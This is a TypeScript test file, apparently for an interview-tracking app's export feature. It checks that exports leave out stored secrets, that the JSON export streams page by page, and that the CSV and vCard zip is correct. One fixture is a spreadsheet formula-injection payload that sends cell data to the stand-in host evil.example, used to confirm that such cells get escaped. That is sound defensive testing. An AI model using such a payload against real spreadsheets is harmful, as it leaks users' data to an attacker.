import { unzipSync } from "fflate";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { encryptSecret } from "../crypto";
import { accounts, calendarFeeds, imapSettings, smtpSettings } from "../db/schema";
import { createInterview } from "../interviews/mutations";
import { getDb, setupTestDatabase } from "../test/database";
import { createTestUser, interviewInput } from "../test/factories";
import { listOpportunityPages } from "./export-queries";
import { toByteStream, writeJsonExport, writeVCards, writeZipExport } from "./export-streams";

setupTestDatabase();

const NOW = new Date("2026-11-17T16:30:00Z");
const SMTP_PASSWORD = "smtp-password-never-exported";
const IMAP_PASSWORD = "imap-password-never-exported";
const ACCESS_TOKEN = "ya29.access-token-never-exported";
const REFRESH_TOKEN = "1//refresh-token-never-exported";
const FEED_TOKEN_HASH = "feed-token-hash-never-exported";
let feeds = 0;
const FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';

async function collect<T>(chunks: AsyncIterable<T>): Promise<T[]> {
  const all: T[] = [];
  for await (const chunk of chunks) all.push(chunk);
  return all;
}

async function userWithSecrets() {
  const user = await createTestUser({ timeZone: "Europe/Berlin", signature: "Best,\nAda" });
  const db = getDb();
  await db.insert(smtpSettings).values({ userId: user.id, host: "smtp.example.com", port: 465, username: "ada", passwordEncrypted: encryptSecret(SMTP_PASSWORD), fromAddress: "ada@example.com" });
  await db.insert(imapSettings).values({ userId: user.id, host: "imap.example.com", port: 993, username: "ada", passwordEncrypted: encryptSecret(IMAP_PASSWORD) });
  await db.insert(accounts).values({ userId: user.id, type: "oidc", provider: "google", providerAccountId: `g-${user.id}`, access_token: ACCESS_TOKEN, refresh_token: REFRESH_TOKEN });
  await db.insert(calendarFeeds).values({ userId: user.id, tokenHash: `${FEED_TOKEN_HASH}-${(feeds += 1)}` });
  await createInterview({
    userId: user.id,
    input: interviewInput({
      company: FORMULA,
      interviewers: [{ name: "Jane Doe", title: "Manager, Data; Platform", email: "jane@acme.example", postalAddress: "1 Main St\nSpringfield" }],
    }),
    now: NOW,
  });
  return user;
}

describe("export", () => {
  it("never exports a secret: no mail password, OAuth token, feed token hash or session", async () => {
    const user = await userWithSecrets();
    const text = (await collect(writeJsonExport({ userId: user.id, now: NOW }))).join("");
    const zipped = unzipSync(Buffer.concat(await collect(writeZipExport({ userId: user.id, now: NOW }))));
    const everything = [text, ...Object.values(zipped).map((bytes) => new TextDecoder().decode(bytes))].join("\n");
    for (const secret of [SMTP_PASSWORD, IMAP_PASSWORD, ACCESS_TOKEN, REFRESH_TOKEN, FEED_TOKEN_HASH]) expect(everything).not.toContain(secret);
    expect(everything).not.toMatch(/password|access_token|refresh_token|tokenHash|sessionToken/i);
    // what is not secret is there: the servers' names, the settings
    const file = JSON.parse(text);
    expect(file).toMatchObject({ format: "afterview", version: 1, exportedAt: NOW.toISOString(), settings: { signature: "Best,\nAda" }, mailServers: { smtp: { host: "smtp.example.com" } } });
  });

  it("streams the JSON a page at a time: opportunities are read in keyset pages and the next page waits for the reader", async () => {
    const user = await createTestUser({ timeZone: "Europe/Berlin" });
    for (const company of ["A", "B", "C"]) await createInterview({ userId: user.id, input: interviewInput({ company }), now: NOW });
    const pages = await collect(listOpportunityPages({ userId: user.id, pageSize: 2 }));
    expect(pages.map((page) => page.length)).toEqual([2, 1]);

    let produced = 0;
    async function* counted() {
      for await (const chunk of writeJsonExport({ userId: user.id, now: NOW })) {
        produced += 1;
        yield chunk;
      }
    }
    const reader = toByteStream(counted()).getReader();
    const first = await reader.read();
    // one chunk asked for, at most the stream's one chunk of read-ahead made
    expect(produced).toBeLessThanOrEqual(2);
    let text = new TextDecoder().decode(first.value);
    for (let next = await reader.read(); !next.done; next = await reader.read()) text += new TextDecoder().decode(next.value);
    expect(produced).toBeGreaterThanOrEqual(5);
    expect(JSON.parse(text).opportunities).toHaveLength(3);
  });

  it("writes the five CSV files and the vCards into one zip, with formula cells escaped", async () => {
    const user = await userWithSecrets();
    const zipped = unzipSync(Buffer.concat(await collect(writeZipExport({ userId: user.id, now: NOW }))));
    expect(Object.keys(zipped).sort()).toEqual(["interviewers.csv", "interviewers.vcf", "interviews.csv", "messages.csv", "opportunities.csv", "steps.csv"]);
    const read = (name: string) => parse(new TextDecoder().decode(zipped[name]), { bom: true, columns: true }) as Record<string, string>[];
    const [opportunity] = read("opportunities.csv");
    expect(opportunity!.company).toBe(`'${FORMULA}`);
    expect(read("interviews.csv")[0]!.company).toBe(`'${FORMULA}`);
    expect(read("interviewers.csv")[0]).toMatchObject({ name: "Jane Doe", title: "Manager, Data; Platform", postal_address: "1 Main St\nSpringfield" });
    expect(read("steps.csv").length).toBeGreaterThanOrEqual(3);
    expect(read("messages.csv")).toEqual([]);
    expect(new TextDecoder().decode(zipped["interviewers.vcf"])).toContain("TITLE:Manager\\, Data\\; Platform");
  });

  it("writes one vCard per interviewer", async () => {
    const user = await createTestUser({ timeZone: "Europe/Berlin" });
    await createInterview({ userId: user.id, input: interviewInput(), now: NOW });
    const cards = (await collect(writeVCards({ userId: user.id }))).join("");
    expect(cards.match(/BEGIN:VCARD/g)).toHaveLength(2);
    expect(cards).toContain("FN:Omar Haddad");
    expect(cards).toContain("ORG:Acme Analytics");
  });
});
